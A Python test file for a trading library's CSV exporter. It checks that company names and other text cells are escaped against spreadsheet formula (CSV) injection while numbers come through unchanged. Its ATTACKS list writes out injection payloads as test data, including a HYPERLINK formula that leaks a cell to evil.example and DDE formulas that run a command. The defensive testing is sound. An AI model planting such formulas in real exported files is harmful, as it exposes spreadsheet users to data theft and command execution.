"""The file of orders in a spreadsheet: no text of it is run as a formula, and no number of it becomes a text."""

import csv
import io
import re
from datetime import date

import numpy as np
import polars as pl
import pytest
from hypothesis import assume, given
from hypothesis import strategies as st

from atft_assets.trading.brokers import to_csv
from atft_assets.trading.orders import Ways
from atft_assets.trading.policy import Rule
from atft_assets.trading.rules import OrderType
from atft_assets.trading.standing import fresh
from tests.trading.made import made_market
from tests.trading.test_orders import decided

# what Excel, LibreOffice and Google's sheets take for a formula (OWASP, "CSV injection"); blanks before it do not help
RUN = re.compile(r"[\s\0-\x1f]*[=+\-@＝＋－＠]|[\t\r\n]")
ATTACKS = (
    '=HYPERLINK("http://evil.example/?"&A1,"x")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u3000=1+1", "\0=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", '"=1+1', "'=1+1",
)  # fmt: skip


@pytest.fixture(scope="module")
def orders() -> pl.DataFrame:
    """Three orders, of which none yet is named by an attacker."""
    market = made_market(
        [[1_234.5, 5e7, 80.0]] * 3, codes=["13010", "130A0", "99990"], first=date(2024, 6, 3), adv=1e12
    )
    rule = Rule(names=3, tranches=1, buffer=1, name_cap=0.34, sector_band=1, turnover_cap=1, liquid_only=False)
    scores = np.array([3, 2, 1], np.float32)
    return decided(market, 2, scores, fresh(market, 2, 2e10), rule, Ways(OrderType.LOO))[1]


def cells(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def named(orders: pl.DataFrame, name: str) -> str:
    """The cell of a company of this name."""
    (found,) = {row["name"] for row in cells(to_csv(orders.with_columns(name=pl.lit(name))))}
    return found


@pytest.mark.parametrize("name", ATTACKS)
def test_a_formula_in_a_name_is_a_text(orders: pl.DataFrame, name: str) -> None:
    found = named(orders, name)
    assert not RUN.match(found)
    assert found == (f"'{name}" if RUN.match(name) else name)


@given(st.text())
def test_no_name_is_a_formula_and_none_that_is_harmless_is_changed(orders: pl.DataFrame, name: str) -> None:
    found = named(orders, name)
    assert not RUN.match(found) and found == (f"'{name}" if RUN.match(name) else name)


@pytest.mark.parametrize("column", ["name", "reason", "code", "symbol", "side"])
def test_every_text_is_looked_at(orders: pl.DataFrame, column: str) -> None:
    assert {row[column] for row in cells(to_csv(orders.with_columns(pl.lit("=1+1").alias(column))))} == {"'=1+1"}


@given(st.integers(-(10**9), 10**9), st.floats(-1e9, 1e9))
def test_a_negative_number_stays_a_number(orders: pl.DataFrame, shares: int, price: float) -> None:
    changed = orders.with_columns(shares=pl.lit(shares), limit_price=pl.lit(price), est_cost=pl.lit(float(shares)))
    # a company's symbol may be a text of digits, and in quotes
    assume(str(shares) not in set(orders["code"].str.slice(0, 4)))
    data = to_csv(changed)
    for row in cells(data):
        assert row["shares"] == row["est_cost"] == str(shares)
        assert float(row["limit_price"]) == pytest.approx(price, abs=0.051)
    assert f'"{shares}"'.encode() not in data and b"'" not in data


def test_what_is_written_is_otherwise_as_before(orders: pl.DataFrame) -> None:
    """An apostrophe is the only difference: all that is no formula is written byte for byte as without the guard."""
    assert b"'" not in to_csv(orders)
    plain = cells(to_csv(orders))
    guarded = cells(to_csv(orders.with_columns(name=pl.lit("=1"))))
    assert [{**row, "name": ""} for row in plain] == [{**row, "name": ""} for row in guarded]
